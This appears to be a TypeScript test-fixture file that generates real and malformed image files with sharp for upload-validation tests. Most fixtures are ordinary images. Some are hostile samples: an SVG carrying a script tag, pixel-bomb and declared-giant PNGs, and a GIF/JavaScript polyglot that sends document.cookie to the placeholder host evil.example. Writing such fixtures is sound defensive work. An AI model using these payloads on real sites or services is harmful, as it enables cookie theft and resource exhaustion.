import sharp, { type Sharp } from 'sharp';
import { randomFillSync } from 'node:crypto';
import zlib from 'node:zlib';

/** Real image bytes made in code, for the upload tests. */

/** 65,536 draws of a standard normal distribution, sorted: indexed by a random 16-bit number, one draw more. */
const NORMAL_QUANTILES = (() => {
  const draws = new Float64Array(65_536);
  for (let index = 0; index < draws.length; index += 2) {
    const radius = Math.sqrt(-2 * Math.log(1 - Math.random()));
    const angle = 2 * Math.PI * Math.random();
    draws[index] = radius * Math.cos(angle);
    draws[index + 1] = radius * Math.sin(angle);
  }
  return draws.sort();
})();

/**
 * Gaussian grain around mid-grey, as raw 3-channel pixels, different on every call: what sharp's
 * `create.noise` makes, in a tenth of its time (it took 1.1 s of CPU for each 6-megapixel photo).
 */
function gaussianGrain(width: number, height: number, sigma: number): Buffer {
  const random = randomFillSync(new Uint16Array(width * height * 3));
  const levels = new Uint8Array(65_536);
  for (let index = 0; index < levels.length; index++) levels[index] = Math.max(0, Math.min(255, Math.round(128 + sigma * NORMAL_QUANTILES[index]!)));
  const grain = Buffer.allocUnsafe(random.length);
  for (let index = 0; index < random.length; index++) grain[index] = levels[random[index]!]!;
  return grain;
}

/** A photo-like picture: smooth gradients and a little grain, so that encoders behave as on photos. */
async function photoPixels(width: number, height: number): Promise<Sharp> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#2a6f97"/><stop offset="0.5" stop-color="#e9c46a"/><stop offset="1" stop-color="#9d0208"/>
    </linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/>
    <circle cx="${width / 3}" cy="${height / 2}" r="${Math.min(width, height) / 4}" fill="#264653" fill-opacity="0.6"/>
  </svg>`;
  const grain = gaussianGrain(width, height, 24);
  const pixels = await sharp(Buffer.from(svg))
    .removeAlpha()
    .composite([{ input: grain, raw: { width, height, channels: 3 }, blend: 'soft-light' }])
    .raw()
    .toBuffer();
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

export async function jpeg(width: number, height: number, quality = 90): Promise<Buffer> {
  return (await photoPixels(width, height)).jpeg({ quality }).toBuffer();
}

export async function webp(width: number, height: number, quality = 90): Promise<Buffer> {
  return (await photoPixels(width, height)).webp({ quality }).toBuffer();
}

/** A flat-colour graphic (a diagram, a logo), as PNG. */
export async function pngGraphic(width: number, height: number): Promise<Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect width="100%" height="100%" fill="#ffffff"/>
    <rect x="10%" y="10%" width="30%" height="40%" fill="#e63946"/>
    <rect x="50%" y="30%" width="40%" height="50%" fill="#1d3557"/>
  </svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

export async function gif(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#457b9d' } }).gif().toBuffer();
}

export async function animatedGif(width: number, height: number, frames = 3): Promise<Buffer> {
  const colours = ['#e63946', '#f1faee', '#a8dadc', '#457b9d', '#1d3557'];
  const pictures = await Promise.all(
    Array.from({ length: frames }, (_, index) =>
      sharp({ create: { width, height, channels: 3, background: colours[index % colours.length]! } }).png().toBuffer(),
    ),
  );
  return sharp(pictures, { join: { animated: true } }).gif({ delay: 100, loop: 0 }).toBuffer();
}

/** A landscape JPEG stored sideways (EXIF orientation 6: shown turned 90° clockwise), with camera and GPS tags. */
export async function jpegWithExif(width: number, height: number): Promise<Buffer> {
  return (await photoPixels(width, height))
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: 'FolioCam', Model: 'Test 1', Copyright: 'Folio test' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2400/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 300/100' },
    })
    .toBuffer();
}

/** The first half of a JPEG: the header is fine, the scan data stops. */
export async function truncatedJpeg(width: number, height: number): Promise<Buffer> {
  const whole = await jpeg(width, height);
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** A plain-colour PNG whose pixel count exceeds the decoder's limit although the file is tiny. */
export async function pixelBomb(width = 8000, height = 6000): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#ffffff' } }).png({ compressionLevel: 9 }).toBuffer();
}

export const textFile = () => Buffer.from('Just some notes, not a picture at all.\n'.repeat(20));

export const svgFile = () =>
  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');

export const pdfFile = () => Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

/** Bigger than the 5 MB limit, and a JPEG by its first bytes. */
export function oversizedFile(bytes = 6 * 1024 * 1024): Buffer {
  const file = Buffer.alloc(bytes, 0x55);
  file.set([0xff, 0xd8, 0xff, 0xe0], 0);
  return file;
}

/** A cut-out graphic: transparent background, half-transparent and opaque shapes, as PNG with alpha. */
export async function pngWithAlpha(width: number, height: number): Promise<Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <circle cx="${width / 3}" cy="${height / 2}" r="${Math.min(width, height) / 3}" fill="#e63946" fill-opacity="0.5"/>
    <rect x="55%" y="20%" width="35%" height="60%" fill="#1d3557"/>
  </svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A file of a few dozen bytes whose header declares width × height pixels (30000 × 30000: 900 megapixels). */
export function declaredGiantPng(width = 30_000, height = 30_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit truecolour, deflate, no filter, no interlace
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', header), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(64))), pngChunk('IEND', Buffer.alloc(0))]);
}

/** Starts as a GIF, runs as JavaScript: `GIF89a=…;` is a valid script and a GIF signature. */
export const gifScriptPolyglot = () => Buffer.from('GIF89a=1;document.location="https://evil.example/?c="+document.cookie;//\x00\x00\x00;');

/** A realistic 12-megapixel camera JPEG: gradients and noise, so it compresses like a photo. */
export async function photo12mp(): Promise<Buffer> {
  const [width, height] = [4000, 3000];
  const noise = gaussianGrain(width, height, 20);
  const sky = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
      <defs><linearGradient id="g" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#1d4e89"/><stop offset="1" stop-color="#f4a261"/></linearGradient></defs>
      <rect width="100%" height="100%" fill="url(#g)"/>
    </svg>`,
  );
  return sharp(sky)
    .composite([{ input: noise, raw: { width, height, channels: 3 }, blend: 'soft-light' }])
    .jpeg({ quality: 90 })
    .toBuffer();
}

/**
 * A photo of about 40 megapixels (7744 × 5160), the most an upload may have, under the 5 MB limit:
 * drawn small and enlarged, so that making one takes about a second. `variant` gives different pixels.
 */
export async function photo40mp(variant: number): Promise<Buffer> {
  const [width, height] = [968, 645];
  const hue = (variant * 47) % 360;
  const drawing = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
      <defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="hsl(${hue},60%,30%)"/><stop offset="1" stop-color="hsl(${(hue + 120) % 360},70%,70%)"/></linearGradient></defs>
      <rect width="100%" height="100%" fill="url(#g)"/>
      <circle cx="${200 + variant * 60}" cy="${height / 2}" r="${150 + variant * 10}" fill="#264653" fill-opacity="0.5"/>
    </svg>`,
  );
  return sharp(drawing)
    .resize(width * 8, height * 8, { kernel: 'cubic' })
    .removeAlpha()
    .jpeg({ quality: 80 })
    .toBuffer();
}
